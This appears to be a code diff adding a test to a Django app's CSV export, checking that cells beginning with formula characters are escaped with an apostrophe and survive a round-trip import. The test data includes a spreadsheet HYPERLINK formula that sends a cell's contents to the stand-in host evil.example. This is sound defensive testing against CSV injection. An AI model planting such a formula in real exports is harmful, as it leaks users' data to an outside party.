@@ -108,3 +108,27 @@ def test_a_download_is_generated_once_per_change_of_the_compendium(client, erfur
     third = b"".join(client.get(url).streaming_content)
     assert b"Harbour Welcome Network" in third
     assert len(list((settings.ERASMI_CACHE_DIR / "exports").iterdir())) == 1  # the old file is gone
+
+
+def test_csv_writes_formulas_as_text_and_reads_them_back_unchanged(client, db, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    make_practice(
+        formula,
+        location="+49 Erfurt",
+        short_description="-1+1 was all it took",
+        success_factors=["@SUM(1)", "Trust"],
+        members="'=1+1 typed with an apostrophe",
+    )
+    before = _content(Practice.objects.get())
+    response = client.get(reverse("compendium:export", args=["csv"]))
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["name"] == "'" + formula
+    assert rows[0]["location"] == "'+49 Erfurt"
+    assert rows[0]["short_description"] == "'-1+1 was all it took"
+    assert rows[0]["success_factors"] == "'@SUM(1)\nTrust"
+    assert rows[0]["members"] == "''=1+1 typed with an apostrophe"
+    path = tmp_path / "compendium.csv"
+    call_command("export_practices", format="csv", output=str(path))
+    Practice.objects.all().delete()
+    call_command("import_practice", str(path), verbosity=0)
+    assert _content(Practice.objects.get()) == before
